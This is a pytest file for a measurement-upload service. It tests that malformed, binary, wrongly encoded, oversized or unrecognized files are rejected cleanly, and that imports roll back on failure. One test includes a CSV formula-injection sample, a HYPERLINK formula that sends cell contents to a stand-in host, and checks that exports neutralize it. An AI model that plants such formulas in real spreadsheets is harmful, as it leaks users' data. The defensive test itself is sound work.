"""The upload boundary: malformed files give a clear message and leave the database unchanged."""

from __future__ import annotations

import codecs

import pandas as pd
import pytest

from measurements import service
from measurements.generic_csv import COLUMNS
from measurements.service import get_upload, import_file, list_measurements, rejected_csv
from safeio.csvsafe import dataframe_to_csv
from tests.measurements.conftest import counts


@pytest.fixture
def csv_bytes(shared_llama) -> bytes:
    return (shared_llama / "rtx4080_b5163.csv").read_bytes()


def _unchanged_after(db_engine, data: bytes, name: str = "f") -> service.ImportResult:
    before = counts(db_engine)
    result = import_file(data, name, engine=db_engine)
    assert counts(db_engine) == before
    assert result.imported == 0 and result.upload_id is None and not result.readable
    return result


def test_truncated_json(db_engine, shared_llama):
    data = (shared_llama / "rtx4080_b5163.json").read_bytes()
    result = _unchanged_after(db_engine, data[: len(data) // 2])
    assert result.message.startswith("the JSON ends too early") and "truncated" in result.message


def test_broken_json_in_the_middle(db_engine, shared_llama):
    data = (shared_llama / "rtx4080_b5163.json").read_bytes().replace(b'"n_batch": 2048,', b'"n_batch": 2048,,', 1)
    assert _unchanged_after(db_engine, data).message.startswith("not valid JSON at line 12, column 21")


def test_binary_junk(db_engine):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    assert _unchanged_after(db_engine, png).message.startswith("not a text file: binary content (a NUL byte at byte 8)")


@pytest.mark.parametrize("data", [b"", b"   \n\r\n\t"])
def test_empty_file(db_engine, data):
    assert _unchanged_after(db_engine, data).message.startswith("the file is empty")


def test_latin1_is_refused_with_advice(db_engine, csv_bytes):
    data = csv_bytes.decode().replace("AMD Ryzen", "AMD Ryzén").encode("latin-1")
    result = _unchanged_after(db_engine, data)
    assert result.message.startswith("not UTF-8 text: byte 0xe9 at position")
    assert "save the file as UTF-8" in result.message


def test_utf16_without_bom_is_not_text(db_engine, csv_bytes):
    result = _unchanged_after(db_engine, csv_bytes.decode().encode("utf-16-le"))
    assert result.message.startswith("not a text file")


@pytest.mark.parametrize("encode", [lambda t: codecs.BOM_UTF8 + t.encode(), lambda t: t.encode("utf-16")])
def test_utf8_bom_and_utf16_bom_are_read(db_engine, csv_bytes, encode):
    result = import_file(encode(csv_bytes.decode()), "bom.csv", engine=db_engine)
    assert result.imported == 2 and result.measurements[0].value == pytest.approx(7285.676949)
    assert result.measurements[0].extra["cpu_info"] == "AMD Ryzen 7 7800X3D 8-Core Processor"


def test_unknown_csv_and_text(db_engine):
    assert "neither llama-bench output nor the generic schema" in _unchanged_after(db_engine, b"a,b,c\n1,2,3\n").message
    assert _unchanged_after(db_engine, b"hello world\n", "notes.txt").message.startswith(
        "unrecognized file 'notes.txt'"
    )
    assert _unchanged_after(db_engine, b'{"foo": 1}').message.startswith("JSON of an unknown shape")


def test_size_limit_checked_before_parsing(db_engine, csv_bytes, monkeypatch):
    monkeypatch.setattr(service, "decode_text", lambda *_: pytest.fail("parsed a file over the limit"))
    before = counts(db_engine)
    result = import_file(csv_bytes, "big.csv", engine=db_engine, max_bytes=len(csv_bytes) - 1)
    assert counts(db_engine) == before and result.imported == 0
    assert result.message == (
        f"the file is {len(csv_bytes):,} bytes, over the {len(csv_bytes) - 1:,} bytes upload limit "
        "(FORMAT_ADVISOR_MAX_UPLOAD_MB)"
    )
    assert service._human(25 * 1024 * 1024) == "25.0 MB"


def test_size_limit_from_environment(monkeypatch):
    monkeypatch.setenv(service.MAX_UPLOAD_ENV, "1.5")
    assert service.max_upload_bytes() == int(1.5 * 1024 * 1024)
    monkeypatch.delenv(service.MAX_UPLOAD_ENV)
    assert service.max_upload_bytes() == 20 * 1024 * 1024


def test_same_file_twice_is_stored_once(db_engine, csv_bytes):
    first = import_file(csv_bytes, "a.csv", label="run 1", engine=db_engine)
    second = import_file(csv_bytes, "renamed.csv", label="run 1 again", engine=db_engine)
    assert (second.imported, second.duplicates, second.upload_id) == (0, 2, first.upload_id)
    assert second.readable and "already imported" in second.message
    assert counts(db_engine) == (1, 2)
    upload = get_upload(first.upload_id, db_engine)
    assert upload.original == csv_bytes  # the bytes exactly as uploaded
    assert (upload.file_name, upload.label, upload.source_format) == ("a.csv", "run 1", "llama_bench_csv")


def test_valid_rows_are_stored_in_one_transaction(db_engine, csv_bytes, monkeypatch):
    # The failure comes after the rows went in (the same point on every dialect: SQLite's driver path and the
    # Core insert elsewhere), so only a rollback can leave the database as it was.
    real = service._insert_series
    calls = []

    def insert_then_fail(session, series, *args, **kw):
        real(session, series, *args, **kw)
        calls.append(len(series))
        raise RuntimeError("disk full")

    monkeypatch.setattr(service, "_insert_series", insert_then_fail)
    with pytest.raises(RuntimeError, match="disk full"):
        import_file(csv_bytes, "a.csv", engine=db_engine)
    assert calls and calls[0] > 0  # rows were written before the failure
    assert counts(db_engine) == (0, 0)  # the upload row was rolled back with the results


def _generic(rows: list[dict[str, str]]) -> bytes:
    lines = [",".join(COLUMNS)] + [",".join(r.get(c, "") for c in COLUMNS) for r in rows]
    return ("\n".join(lines) + "\n").encode()


def test_formula_cells_kept_as_data_but_neutralized_in_exports(db_engine):
    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    data = _generic(
        [
            {
                "hardware": "h100_sxm5_80gb",
                "model": "llama-3.1-8b",
                "decode_tok_s": "100",
                "notes": '"' + formula.replace('"', '""') + '"',
            },
            {"hardware": "h100_sxm5_80gb", "model": "@SUM(1+1)", "decode_tok_s": "-5"},
        ]
    )
    result = import_file(data, "f.csv", engine=db_engine)
    assert result.imported == 1
    stored = list_measurements(db_engine)
    assert stored[0].notes == formula  # stored exactly as given
    assert "'" + formula.replace('"', '""') in dataframe_to_csv(pd.DataFrame({"notes": [m.notes for m in stored]}))
    exported = rejected_csv(result)
    assert exported.splitlines()[0].startswith("row,column,reason,hardware,model")
    assert "'@SUM(1+1)" in exported and ",'-5," in exported
    assert "negative value -5" in exported


def test_rejected_csv_from_stored_upload(db_engine, csv_bytes):
    header, _, rest = csv_bytes.decode().partition("\n")
    data = (header + "\n" + rest.replace('"7285.676949"', '"=1+1"', 1)).encode()
    result = import_file(data, "r.csv", engine=db_engine)
    stored = get_upload(result.upload_id, db_engine).rejected
    assert stored == [{"row": 2, "column": "avg_ts", "reason": "expected a number, got '=1+1'"}]
    assert rejected_csv(stored) == "row,column,reason\r\n2,avg_ts,\"expected a number, got '=1+1'\"\r\n"
